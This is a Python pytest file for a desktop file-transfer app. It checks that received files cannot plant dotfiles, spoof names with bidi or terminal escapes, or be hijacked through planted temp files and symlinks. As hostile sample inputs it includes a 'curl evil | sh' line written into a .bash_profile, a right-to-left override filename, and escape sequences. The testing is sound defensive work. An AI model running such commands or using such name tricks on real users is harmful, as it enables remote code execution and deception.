"""Issue 9, items 2, 3 and 10: what a hostile sender or a neighbour in a shared download folder can do
to the files a receive creates."""

from __future__ import annotations

import os
import pwd
import time
from pathlib import Path

import pytest

from sgsend_desktop.core import crypto
from sgsend_desktop.core.errors import LocalIOError
from sgsend_desktop.core.filenames import NAME_MAX, clean_text, open_private, safe_filename

KEY = crypto.generate_key()


def _payload(tmp_path: Path, name: str, content: bytes) -> Path:
    source = tmp_path / "source.bin"
    source.write_bytes(content)
    payload = tmp_path / "payload.enc"
    crypto.encrypt_file(source, payload, KEY, filename=name)
    return payload


# --- names from the sender ---------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "expected"), [
    (".bash_profile", "bash_profile"),
    ("..bashrc", "bashrc"),
    (". .profile", "profile"),
    ("photo\u202egpj.exe", "photo_gpj.exe"),          # right-to-left override shows "exe.jpg"
    ("a\u200bb\u2066c\u2069.txt", "a_b_c_.txt"),      # zero-width space, bidi isolates
    ("line\u2028break.txt", "line_break.txt"),
    ("\x1b]0;pwned\x07.txt", "_]0;pwned_.txt"),       # a terminal escape
])
def test_saved_names_plant_no_dotfile_and_no_bidi_tricks(name: str, expected: str) -> None:
    assert safe_filename(name, "fb") == expected


def test_a_leading_dot_does_not_survive_a_real_decrypt(tmp_path: Path) -> None:
    out = tmp_path / "home"
    saved = crypto.decrypt_file(_payload(tmp_path, ".bash_profile", b"curl evil | sh\n"), KEY, out)
    assert saved.name == "bash_profile"
    assert not (out / ".bash_profile").exists()


def test_a_name_at_the_cap_still_gets_its_clash_suffix(tmp_path: Path) -> None:
    """A second file whose name is at the 255-byte cap once failed "File name too long" forever."""
    name = "é" * 200 + ".pdf"                      # 404 bytes: capped
    out = tmp_path / "out"
    first = crypto.decrypt_file(_payload(tmp_path, name, b"one"), KEY, out)
    second = crypto.decrypt_file(_payload(tmp_path, name, b"two"), KEY, out)
    assert len(first.name.encode()) <= NAME_MAX and len(second.name.encode()) <= NAME_MAX
    assert second.name.endswith(" (1).pdf") and first.read_bytes() == b"one"
    assert second.read_bytes() == b"two"


def test_a_megabyte_name_is_cheap() -> None:
    started = time.process_time()
    name = safe_filename("x" * (1 << 20) + ".txt", "fb")
    assert time.process_time() - started < 0.5  # it once took 37–106 s (quadratic trim)
    assert name.endswith(".txt") and len(name.encode()) <= NAME_MAX


def test_server_text_reaches_the_terminal_without_escapes() -> None:
    text = clean_text("bad\x1b[2J\x1b]0;title\x07 news\n\u202eevil" + "x" * 1000, limit=100)
    assert "\x1b" not in text and "\x07" not in text and "\n" not in text and "\u202e" not in text
    assert len(text) <= 101


# --- files a neighbour planted -------------------------------------------------------------------------

def _nobody() -> tuple[int, int]:
    entry = pwd.getpwnam("nobody")
    return entry.pw_uid, entry.pw_gid


def test_a_planted_world_writable_temp_file_never_receives_the_plaintext(tmp_path: Path) -> None:
    """A neighbour pre-creates the predictable temp name 0666 to read what we decrypt into it."""
    out = tmp_path / "shared"
    out.mkdir(mode=0o777)
    trap = out / ".sgsend-abcd1234.plain"
    trap.write_bytes(b"")
    os.chmod(trap, 0o666)
    if os.geteuid() == 0:
        os.chown(trap, *_nobody())
    secret = b"the plaintext a neighbour wants" * 100
    payload = _payload(tmp_path, "secret.txt", secret)
    with payload.open("rb") as reader, pytest.raises(LocalIOError, match="not a file this app made"):
        crypto.decrypt_chunks_to_dir(crypto.iter_file_blocks(reader), KEY, out, temp_path=trap)
    assert trap.read_bytes() == b""  # nothing written through the trap
    assert not (out / "secret.txt").exists()


def test_a_planted_symlink_never_redirects_a_write(tmp_path: Path) -> None:
    out = tmp_path / "shared"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"precious")
    os.chmod(victim, 0o644)
    link = out / ".sgsend-abcd1234.plain"
    link.symlink_to(victim)
    payload = _payload(tmp_path, "x.txt", b"overwrite!" * 50)
    with payload.open("rb") as reader, pytest.raises(LocalIOError):
        crypto.decrypt_chunks_to_dir(crypto.iter_file_blocks(reader), KEY, out, temp_path=link)
    assert victim.read_bytes() == b"precious" and oct(victim.stat().st_mode & 0o777) == "0o644"


def test_our_own_stale_temp_file_is_reused_and_made_private(tmp_path: Path) -> None:
    stale = tmp_path / ".sgsend-ours.part"
    stale.write_bytes(b"resume me")
    os.chmod(stale, 0o644)
    fd = open_private(stale, reuse=True)
    try:
        assert os.pread(fd, 9, 0) == b"resume me"
        assert os.fstat(fd).st_mode & 0o777 == 0o600
    finally:
        os.close(fd)
